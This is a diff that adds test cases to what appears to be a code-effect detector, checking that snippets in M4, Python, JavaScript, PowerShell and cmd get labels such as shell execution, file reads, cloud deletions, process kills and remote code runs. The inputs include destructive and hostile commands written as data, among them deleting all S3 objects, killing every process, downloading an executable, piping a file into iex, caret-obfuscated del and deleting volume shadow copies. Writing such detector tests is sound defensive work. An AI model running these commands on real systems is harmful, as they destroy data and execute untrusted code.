@@ -475,6 +475,65 @@ fn sql_statements_are_told_with_target_and_condition() {
 }
 
 #[test]
+fn macros_that_leave_m4_are_told() {
+    holds(
+        Language::M4,
+        &[
+            ("syscmd(`ls -l')", &["sh: ls -l"]),
+            ("a(`b') esyscmd( `ls', `pwd')", &["sh: ls"]),
+            ("include(`/etc/hosts')", &["fs.read /etc/hosts"]),
+            ("# syscmd(`ls')", &[]),
+            (
+                "`syscmd' is a word",
+                &["unknown: what `syscmd` is given is computed"],
+            ),
+            (
+                "changequote([, ])syscmd([ls])",
+                &["unknown: what `syscmd` is given is computed"],
+            ),
+            ("define(`x', `y')x", &[]),
+        ],
+    );
+}
+
+#[test]
+fn clients_of_clouds_are_followed_through_what_they_give() {
+    holds(
+        Language::Python,
+        &[
+            (
+                "import boto3\nboto3.resource('s3').Bucket('b').objects.all().delete()",
+                &["cloud.delete delete"],
+            ),
+            (
+                "import boto3\nc = boto3.client('ec2')\nc.terminate_instances(InstanceIds=['i-1'])\nc.describe_instances()",
+                &["cloud.delete terminate_instances"],
+            ),
+            (
+                "from google.cloud import storage\nstorage.Client().bucket('b').delete()",
+                &["cloud.delete delete"],
+            ),
+            ("import boto3\nboto3.client('s3').list_buckets()", &[]),
+            ("cart.delete_item('x')", &[]),
+        ],
+    );
+    holds(
+        Language::JavaScript,
+        &[
+            (
+                "const {DeleteTableCommand: D} = require('@aws-sdk/client-dynamodb')",
+                &[],
+            ),
+            (
+                "client.send(new DeleteTableCommand({TableName: 't'}))",
+                &["cloud.delete DeleteTable t (protected)"],
+            ),
+            ("client.send(new ListTablesCommand({}))", &[]),
+        ],
+    );
+}
+
+#[test]
 fn powershell_is_followed_through_aliases_pipes_and_encodings() {
     holds(
         Language::PowerShell,
@@ -493,6 +552,25 @@ fn powershell_is_followed_through_aliases_pipes_and_encodings() {
                 &[
                     "net.fetch https://h.example/x",
                     "exec.remote_code https://h.example/x",
+                ],
+            ),
+            (
+                "iwr https://h.example/x -o x.exe",
+                &["net.fetch https://h.example/x", "fs.write x.exe (create)"],
+            ),
+            (
+                "Get-Process | Stop-Process -Force",
+                &["process.kill every process (all)"],
+            ),
+            (
+                "Get-Process | Where-Object { $_.CPU -gt 9 } | Stop-Process",
+                &["process.kill stop-process"],
+            ),
+            (
+                "Get-Content a.ps1 | iex",
+                &[
+                    "fs.read a.ps1",
+                    "unknown: code that is read from a file when it runs",
                 ],
             ),
             ("iex ('Rem' + 'ove-Item a')", &["PowerShell: Remove-Item a"]),
@@ -558,6 +636,13 @@ fn cmd_is_followed_through_carets_variables_and_branches() {
                 "vssadmin delete shadows /all",
                 &["disk.write volume shadow copies"],
             ),
+            ("echo ^d^el /s a | cmd", &["Cmd: del /s a"]),
+            (
+                "type a.bat | cmd /q",
+                &["fs.read a.bat", "exec.local a.bat"],
+            ),
+            ("echo a || cmd", &[]),
+            ("echo ls | findstr l", &[]),
             (
                 "npm test && git push",
                 &["argv: npm test", "argv: git push"],
